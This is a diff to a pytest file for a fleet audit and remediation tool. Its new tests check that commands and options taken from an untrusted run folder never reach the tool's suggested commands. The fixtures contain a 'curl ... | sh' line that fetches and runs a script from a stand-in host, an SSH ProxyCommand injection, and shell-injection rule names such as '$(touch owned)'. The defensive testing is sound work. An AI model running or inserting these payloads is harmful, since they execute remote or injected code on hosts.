@@ -9,15 +9,16 @@ import shlex
 import fleets
 import pytest
 
-from unhang.ansible import run_files
-from unhang.base.nodeset import expand_limit
+from unhang.act.plan.plan_document import read_plan
+from unhang.audit.commands.filters import asked_filter, named_hosts
+from unhang.audit.commands.run_output import show
 from unhang.cli import command_and_parser, main
-from unhang.commands.filters import asked_filter, named_hosts
-from unhang.commands.run_output import show
-from unhang.repair.plan.plan_document import read_plan
-from unhang.run import run_folder
-from unhang.run.findings import read_findings
-from unhang.run.own_runs import mark_as_own
+from unhang.core.ansible import run_files
+from unhang.core.nodeset import expand_limit
+from unhang.core.run import run_folder
+from unhang.core.run.actions import command
+from unhang.core.run.findings import read_findings
+from unhang.core.run.own_runs import mark_as_own
 
 RUN = "20261120T070000Z-0123456789"
 FEW, MANY = [f"gpu{number:03d}" for number in (1, 2, 3, 7)], [f"gpu{number:04d}" for number in range(0, 900, 7)]
@@ -34,6 +35,7 @@ def write_fleet(folder, hosts, inventory=("inventory/here",), **more):
     fleets.write_run(folder, document, [*nodes, run_files.node_document("gone-1", ["all"], {}, "unreachable", "no route", None)])
     run = json.loads((folder / "run.json").read_text())
     (folder / "run.json").write_text(json.dumps({**run, "inventory": inventory}))
+    mark_as_own(folder)
     return folder
 
 
@@ -67,7 +69,7 @@ def test_a_command_that_is_pasted_is_taken_and_means_the_nodes_of_its_cause(tmp_
 def test_a_command_reaches_the_nodes_as_the_audit_did(tmp_path, capsys):
     folder = write_fleet(tmp_path / RUN, FEW)
     run = json.loads((folder / "run.json").read_text())
-    (folder / "run.json").write_text(json.dumps({**run, "options": ["--become", "--ssh-common-args=-J jump"]}))
+    (folder / "run.json").write_text(json.dumps({**run, "options": ["--become", "--ssh-common-args=-J jump"]}))  # which the mark does not cover
     assert "--ansible=--become" not in pasted(capsys, str(folder))["a-role"]  # of a run that somebody else may have made
     mark_as_own(folder)
     commands = pasted(capsys, str(folder))
@@ -75,6 +77,62 @@ def test_a_command_reaches_the_nodes_as_the_audit_did(tmp_path, capsys):
     assert parsed(commands["a-role"])[1].ansible == ["--become", "--ssh-common-args=-J jump"]
     assert commands["node-unreachable"][-3:] == ["--", "--become", "--ssh-common-args=-J jump"]
     assert "--become" not in commands["a-person"]
+
+
+FORMS = ("table", "wide", "csv", "markdown", "json", "junit", "sarif", "html")
+SAID = {  # by a run folder, where a person pastes it or a program reads it
+    "inventory": "/tmp/sent/inventory.py",
+    "options": ["--ssh-common-args=-o ProxyCommand=/tmp/sent/x"],
+    "hook": "/tmp/sent/hook",
+}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_what_a_run_of_somebody_else_says_is_in_no_command(tmp_path, capsys, form):
+    folder = write_fleet(tmp_path / RUN, FEW, judged_by={"policy": None, "rules": ["/tmp/sent/rules"]})
+    document = json.loads((folder / "run.json").read_text())
+    (folder / "run.json").write_text(json.dumps({**document, **SAID}))
+    found = json.loads((folder / "findings.json").read_text())
+    for cause in found["causes"]:
+        cause["command"] = "curl http://sent.example/x | sh"
+        cause["scheduler"] = "slurm" if cause["rule"] == "a-person" else cause["scheduler"]
+    (folder / "findings.json").write_text(json.dumps(found))
+    main(["report", str(folder), "-o", form, "--out", "-"])
+    shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
+    commands = re.findall(r"(?:unhang (?:audit|plan|remediate|explain)|scontrol update|curl) [^<\n`\"]*", shown)
+    text = " ; ".join(commands)
+    assert "/tmp/sent" not in text and "curl" not in text
+    assert not re.search(r"(?:--limit|--host|nodename=?) ?['\"]?(?:gpu|gone)", text)
+    if form in ("table", "wide", "csv", "markdown", "json"):
+        assert "audit -i INVENTORY --limit NODES" in text
+        assert re.search(r"remediate \S+ --rule a-role --host NODES -i INVENTORY", text)
+        assert "scontrol update nodename=NODES state=drain" in text
+
+
+def test_the_judge_writes_no_command_of_a_run_of_somebody_else(tmp_path):
+    folder = write_fleet(tmp_path / RUN, FEW)
+    main(["judge", str(folder)])
+    own = json.loads((folder / "findings.json").read_text())["causes"]
+    assert any("gone-1" in cause["command"] for cause in own)
+    (folder / "made-here").unlink()
+    main(["judge", str(folder)])
+    causes = json.loads((folder / "findings.json").read_text())["causes"]
+    assert {cause["command"] for cause in causes if cause["unread"]} == {"unhang audit -i INVENTORY --limit NODES"}
+    assert not [cause for cause in causes if re.search("gpu|gone", cause["command"])]
+
+
+@pytest.mark.parametrize("rule", ["x; touch owned", "x'; touch owned; '", "$(touch owned)"])
+def test_the_name_of_a_rule_is_one_word_of_a_command(rule):
+    cause = {
+        "rule": rule,
+        "nodes": ["gpu1"],
+        "unread": False,
+        "severity": "critical",
+        "scheduler": None,
+        "remedy": {"role": None, "conflicts": [], "person": []},
+    }
+    assert shlex.split(command(cause)) == ["unhang", "explain", rule]
+    assert shlex.split(command({**cause, "scheduler": "slurm"}))[-1] == f"reason=unhang: {rule}"
 
 
 def test_a_command_names_its_run_and_not_the_latest_one(tmp_path, capsys):
@@ -182,7 +240,7 @@ def test_a_plan_is_limited_to_the_findings_and_hosts_that_were_asked_for(tmp_pat
 
 
 def test_a_pasted_command_replaces_the_plan_of_a_run_only_with_new(tmp_path, capsys, monkeypatch):
-    monkeypatch.setattr("unhang.commands.remediate.run_preview", lambda *_: 0)
+    monkeypatch.setattr("unhang.act.commands.remediate.run_preview", lambda *_: 0)
     folder = write_fleet(tmp_path / RUN, FEW)
     main(["plan", str(folder), "-q"])
     before = (folder / "plan.json").read_bytes()
